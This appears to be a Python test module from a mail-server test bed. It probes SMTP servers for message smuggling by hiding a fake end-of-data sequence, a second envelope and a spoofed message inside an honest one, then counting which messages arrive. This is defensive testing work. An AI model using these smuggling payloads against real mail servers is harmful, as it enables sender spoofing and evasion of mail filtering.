# SPDX-License-Identifier: GPL-2.0
"""One session with one message in which another is smuggled: behind an end of
data come the commands and the text of a second message, and only behind those
the real end. Whoever takes the first for an end reads two messages."""

import collections
import dataclasses
import itertools
import re

import bed
import forms

SERVER = "198.51.100.2"
DEADLINE = 60
ENVELOPE = ("MAIL FROM:<{}@example.net>", "RCPT TO:<alice@example.org>",
            "DATA")
IDENTITY = re.compile(rb"^Message-ID: <([a-z]+\.[0-9]+)@example\.net>$",
                      re.MULTILINE)

_numbers = itertools.count(1)


@dataclasses.dataclass
class Outcome:
    """What the client saw of a session, and its number in the mailbox."""

    number: int
    replies: list
    reset: bool

    @property
    def accepted(self):
        """The first message was said to be accepted."""
        return bool(self.replies) and self.replies[0].startswith(b"250")

    def copies(self, arrived):
        """How many of the honest and of the smuggled message arrived."""
        return (arrived[f"honest.{self.number}"],
                arrived[f"smuggled.{self.number}"])


def honest(number, line_end):
    """The message that the sender may send."""
    return line_end.join((
        b"Message-ID: <honest.%d@example.net>" % number,
        b"Subject: an honest message", b"", b"text"))


def smuggled(number, line_end):
    """The commands and the message that are hidden in it."""
    commands = "".join(f"{line}\r\n" for line in ENVELOPE).format("smuggler")
    return commands.encode("ascii") + line_end.join((
        b"Message-ID: <smuggled.%d@example.net>" % number,
        b"Subject: a smuggled message", b"", b"text"))


def attack(form, cut, line_end=b"\r\n"):
    """Send a message with a form in it, cut in one way (see forms.ways)."""
    number = next(_numbers)
    behind = smuggled(number, line_end) + forms.END
    return _send(number, cut(honest(number, line_end), form, behind))


def control(cut, line_end=b"\r\n"):
    """Send an honest message alone, its end cut in one way."""
    number = next(_numbers)
    return _send(number, cut(honest(number, line_end), forms.END, b""))


def _send(number, pieces):
    with bed.Client(SERVER, timeout=DEADLINE) as client:
        client.expect("EHLO client.example.net", "250")
        for line, code in zip(ENVELOPE, ("250", "250", "354")):
            client.expect(line.format("sender"), code)
        outcome = Outcome(number, [], False)
        try:
            _say(client, outcome, *pieces)
            outcome.replies.append(client.reply()[-1])
            # Not sooner: OpenSMTPD refuses a message that more comes behind.
            _say(client, outcome, b"QUIT\r\n")
            while client.lines.peek(1):
                outcome.replies.append(client.reply()[-1])
        except ConnectionResetError:
            outcome.reset = True
        except ConnectionError:
            # The reset was told to whoever sent; what is read just ends.
            if not outcome.reset:
                raise
        return outcome


def _say(client, outcome, *pieces):
    """Send as much as the server takes: one that gives up in mid-message says
    so before it resets, and that reply is still to be read."""
    try:
        client.send(*pieces)
    except (ConnectionResetError, BrokenPipeError):
        outcome.reset = True


def arrived(mails):
    """How often each message is among mails: by the first line that names
    one, for an honest message may have the smuggled one in its text."""
    return collections.Counter(
        IDENTITY.search(mail)[1].decode("ascii") for mail in mails)
